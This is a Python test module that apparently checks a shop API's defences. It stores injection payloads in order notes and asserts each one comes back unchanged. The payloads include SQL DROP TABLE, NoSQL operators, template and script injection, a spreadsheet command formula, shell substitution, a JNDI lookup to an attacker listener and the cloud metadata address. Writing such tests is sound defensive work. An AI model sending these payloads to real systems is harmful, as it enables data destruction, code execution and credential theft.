"""Attacks that are data here and code elsewhere: each comes back letter by letter, and nothing was done."""

from collections.abc import Callable

from tests.attack.attack import Attack
from tests.attack.siege import Siege
from tests.attack.wire import Reply

BACK = "given back as it was"


def stored(title: str, text: str) -> Attack:
    """An order whose note is this text; ``{listener}`` is the address of the attacker's server."""

    def note(siege: Siege) -> str:
        return text.replace("{listener}", siege.listener.url)

    def send(siege: Siege) -> Reply:
        return siege.place(token=siege.bob.token, metadata={"note": note(siege)})

    def came_back(siege: Siege, reply: Reply) -> None:
        order = siege.call("GET", reply.header("Location") or "", token=siege.bob.token).json["order"]
        assert order["metadata"] == {"note": note(siege)}
        assert order["total"] == "249.00"

    return Attack(kind="data", title=title, send=send, status=201, orders=1, effect=BACK, then=came_back)


def fetched(title: str, send: Callable[[Siege], Reply], status: int, code: str) -> Attack:
    """A request with an address that a careless server would fetch; the listener is watched at every attack."""
    return Attack(kind="data", title=title, send=send, status=status, code=code)


DATA = [
    stored("SQL in a note", "'); DROP TABLE orders; --"),
    stored("MongoDB operators in a note", '{"$ne": null, "$where": "sleep(9)"}'),
    stored("templates in a note", "{{7*7}} ${7*7} <%= 7*7 %> {% debug %} #{7*7}"),
    stored("script in a note", "<script>alert(1)</script><img src=x onerror=alert(1)>\"'"),
    stored("a formula of a spreadsheet in a note", "=cmd|' /C calc'!A0"),
    stored("a shell's substitution in a note", "$(touch /tmp/owned) `id` ; id | id && id"),
    stored("a log line in a note", '\r\n{"event": "forged", "level": "info", "logger": "shop.request"}\r\n'),
    stored("a terminal's escapes in a note", "\x1b[2J\x1b]0;owned\x07"),
    stored("the other direction of writing in a note", "\u202eevil\u202c \u200b\ufeff"),
    stored("all planes of Unicode in a note", "Z͑ä̸l̷g̵o 👩‍👩‍👧‍👦 𝕏 漢字 ﷽ \U0010fffd"),
    stored("JNDI in a note", "${jndi:ldap://203.0.113.9/x} ${jndi:{listener}/x}"),
    stored("an address to fetch in a note", "{listener}/image.png"),
    stored("the address of the cloud's metadata in a note", "http://169.254.169.254/latest/meta-data/"),
    fetched(
        "an address as the product",
        lambda siege: siege.place(token=siege.bob.token, items=[{"productId": f"{siege.listener.url}/x"[:64], "quantity": 1}]),
        400,
        "unknown_product",
    ),
    fetched(
        "an address in Referer, Origin, X-Forwarded-Host and Forwarded",
        lambda siege: siege.call(
            "GET",
            f"/orders/{siege.listener.url}",
            token=siege.bob.token,
            headers=[(name, siege.listener.url) for name in ("Referer", "Origin", "X-Forwarded-Host", "Forwarded", "X-Original-URL")],
        ),
        404,
        "not_found",
    ),
]  # fmt: skip
